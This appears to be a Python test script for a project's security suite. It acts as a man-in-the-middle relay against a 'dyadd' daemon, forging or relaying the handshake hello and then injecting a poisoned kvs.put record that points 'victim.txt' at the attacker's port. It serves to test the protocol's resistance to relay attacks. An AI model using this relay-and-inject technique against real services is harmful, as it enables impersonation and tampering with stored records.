# SPDX-License-Identifier: Apache-2.0
"""An attacker without the job's key that sits between a keyed client and a
keyed dyadd (docs/security.md, "the relayed hello"): it listens on a port of
its own, and when a client connects it opens its own connection to the real
dyadd and relays the hello.

Modes:
- rewrite: the hello it sends on is the client's nonce with role "service"
  and the service id of its choice; it hands the service's answer to the
  client and the client's proof to the service. If admitted, it rewrites a
  record with kvs.put.
- transparent: every byte of the hello is relayed as it is; once both sides
  are through, it injects a kvs.put of its own toward the service.

It prints one JSON line: whether the client sent a proof, whether the
service admitted the relay, and what the injected request got.

    relay.py MODE --host H --port P --service-id ID --ready FILE
"""
import argparse
import json
import os
import socket
import sys
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from rawwire import ERROR, HDR, HELLO, MAGIC, REQUEST, VERSION  # noqa: E402


def read_exact(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise ConnectionError("closed")
        buf += chunk
    return buf


def read_frame(s):
    """A frame's header and meta (frames of the hello have no tag, no data)."""
    h = read_exact(s, HDR.size)
    _, _, typ, _, tag, errnum, ml, dl = HDR.unpack(h)
    meta = read_exact(s, ml) if ml else b""
    return h, typ, meta


def frame(typ, tag, meta):
    m = json.dumps(meta).encode()
    return HDR.pack(MAGIC, VERSION, typ, 0, tag, 0, len(m), 0) + m


def poisoned_put(service_id, uri):
    rec = {"path": "victim.txt", "owner": service_id, "node": service_id, "producer_dir": "/",
           "endpoints": [uri], "size": 6, "mtime_ns": 0, "mode": 0o644}
    return frame(REQUEST, 7, {"topic": "kvs.put", "ns": "dyad", "key": "victim.txt", "value": json.dumps(rec)})


def answer_to(s, tag):
    """The type and meta of the answer to `tag` (or what closed the connection)."""
    s.settimeout(5)
    try:
        while True:
            h = read_exact(s, HDR.size)
            _, _, typ, _, t, _, ml, dl = HDR.unpack(h)
            meta = read_exact(s, ml) if ml else b""
            if dl:
                read_exact(s, dl)
            if t == tag or typ == ERROR:
                return {"type": typ, "meta": meta.decode(errors="replace")[:300]}
    except (OSError, ConnectionError) as e:
        return {"closed": str(e) or type(e).__name__}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode", choices=["rewrite", "transparent"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--service-id", required=True)
    p.add_argument("--ready", required=True)
    a = p.parse_args()
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(4)
    with open(a.ready + ".tmp", "w") as f:
        f.write(str(srv.getsockname()[1]))
    os.rename(a.ready + ".tmp", a.ready)
    srv.settimeout(60)
    c, _ = srv.accept()
    c.settimeout(10)
    d = socket.create_connection((a.host, a.port), timeout=10)
    out = {"client_sent_proof": False, "admitted": False}
    try:
        _, _, ch = read_frame(c)
        if a.mode == "rewrite":
            hello = json.loads(ch)
            forged = {"version": VERSION, "pid": os.getpid(), "role": "service", "service_id": a.service_id,
                      "nonce": hello.get("nonce", "")}
            d.sendall(frame(HELLO, 0, forged))
        else:
            d.sendall(HDR.pack(MAGIC, VERSION, HELLO, 0, 0, 0, len(ch), 0) + ch)
        h, typ, challenge = read_frame(d)
        c.sendall(h + challenge)
        try:
            h, typ, proof = read_frame(c)
        except (OSError, ConnectionError):
            out["client"] = "closed without a proof"
            return
        out["client_sent_proof"] = True
        d.sendall(h + proof)
        h, typ, ident = read_frame(d)
        out["admitted"] = typ == HELLO
        if a.mode == "transparent" and typ == HELLO:
            # The identity frame of a keyed connection has a tag: pass it on
            # with its tag, then let the client go on alone.
            c.sendall(h + ident + read_exact(d, 16))
            threading.Thread(target=lambda: c.recv(1), daemon=True).start()
        if out["admitted"]:
            d.sendall(poisoned_put(a.service_id, f"tcp://127.0.0.1:{srv.getsockname()[1]}"))
            out["put"] = answer_to(d, 7)
    except (OSError, ConnectionError) as e:
        out["error"] = str(e) or type(e).__name__
    finally:
        print(json.dumps(out), flush=True)
        c.close()
        d.close()


if __name__ == "__main__":
    main()
